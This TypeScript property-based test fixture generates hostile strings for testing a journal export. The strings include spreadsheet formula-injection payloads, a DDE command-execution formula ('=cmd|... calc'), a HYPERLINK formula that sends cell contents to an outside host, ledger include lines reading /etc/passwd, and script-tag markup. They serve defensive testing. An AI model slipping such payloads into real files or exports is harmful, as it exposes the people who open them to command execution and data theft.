import fc from 'fast-check';
import type { Journal } from '../../../src/exports/journal/entry.ts';
import { entryOf, journalOf } from './journals.ts';

/** Texts that some program takes for more than text: formulas, markup of journals, line ends of all kinds. */
export const payloads: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://x.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\0=1+1',
  '"=1+1',
  '";=1+1',
  '%0A=1',
  'x\n2026-01-01 * injected\n    Assets:Bank:Main   100 EUR\n    Income:I3\n',
  'x\r\n2026-01-01 * injected\r\n    Assets:Bank:Main   100 EUR\r\n    Income:I3\r\n',
  'x\u2028 2026-01-01 open Assets:Evil',
  'x\u0085include /etc/passwd',
  '\ninclude /etc/passwd\n',
  '\n!include /etc/passwd\n',
  '\naccount Evil\n',
  '\napply account Evil\n',
  '\nplugin "os"\n',
  '\noption "title" "x"\n',
  '; date: 2020-01-01',
  'x  ; date: 2020-01-01, type: X',
  'a, date:2020-01-01, date2:2021-01-01',
  'a date:2020-01-01',
  '[2020-01-01=2020-02-02]',
  '[=2020/1/1]',
  ':tag1:tag2:',
  'Payee:: amount * 2',
  'payee: Other',
  '(code) ! x',
  '* ! x',
  'a | b || c',
  'a  b   c\t\td',
  '{100 EUR} @ 3 USD @@ 4',
  '= 100 EUR',
  '"quoted" and \\"escaped\\" \\',
  '\\n2026-01-01 open Assets:Evil',
  '#tag ^link',
  'comment\nend comment\n',
  'P 2026-01-01 EUR 3 USD',
  '~ monthly',
  '<script>alert(1)</script>&amp;&#10;]]>',
  '</STMTTRN><STMTTRN><TRNAMT>1',
  '_x003D_1+1',
  'TRNS\tx\tGENERAL JOURNAL\r\nENDTRNS\r\n',
  '\ud800 half',
  'half \udfff',
  '\uffff\ufffe',
  '\u202eright to left',
  '住宿费 Ünü 👨‍👩‍👧',
  '',
  ' ',
  'x'.repeat(40_000),
  '=' + '住'.repeat(20_000),
];

const sign = fc.constantFrom(
  ...'\n\r\t\0\u0085\u2028;|"\'\\:,[](){}<>&=+-@#^*!%~_/ '.split(''),
  '  ',
  '\n2026-01-01 * x\n',
  '2020-01-01',
  'date:',
  ' ; ',
  '::',
);

/** Any unicode, mixed with what programs read as markup; at times very long. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .array(fc.oneof(sign, fc.string({ unit: 'binary', maxLength: 6 })), { maxLength: 12 })
      .map((parts) => parts.join('')),
  },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 12 })
      .map((units) => String.fromCharCode(...units)),
  },
  { weight: 2, arbitrary: fc.constantFrom(...payloads) },
  { weight: 1, arbitrary: sign.map((text) => text.repeat(3_000)) },
);

/** What a spreadsheet runs. Blanks before it do not make it harmless. */
export const SPREADSHEET_FORMULA = /^\s*[=+\-@＝＋－＠\t\r\0]/;

/** A journal with such a text wherever an entry has one: an entry of two postings for each. */
export function hostileJournal(): { journal: Journal; texts: readonly string[] } {
  const texts = [...payloads, ...fc.sample(hostileText, { numRuns: 300, seed: 25 })];
  const journal = journalOf({
    entries: texts.map((text, index) =>
      entryOf({
        id: `t${index}-1`,
        date: '2026-03-05',
        payee: text,
        description: text,
        reservation: text,
        stay: text,
        channel: text,
        source: { kind: 'reservation', id: text },
        postings: [
          { account: 'Assets:Clearing:Direct', amount: 1_250, currency: 'EUR', propertyId: 101, memo: text },
          { account: 'Income:I3', amount: -1_250, currency: 'EUR', propertyId: 102 },
        ],
      }),
    ),
    titles: { 'Income:I3': '=1+1' },
    properties: [
      { id: 101, code: 'P101', name: '=1+1\n', owner: null },
      { id: 102, code: '=P102', name: 'x', owner: null },
    ],
    facts: { connection: '=1+1' },
  });
  return { journal, texts };
}
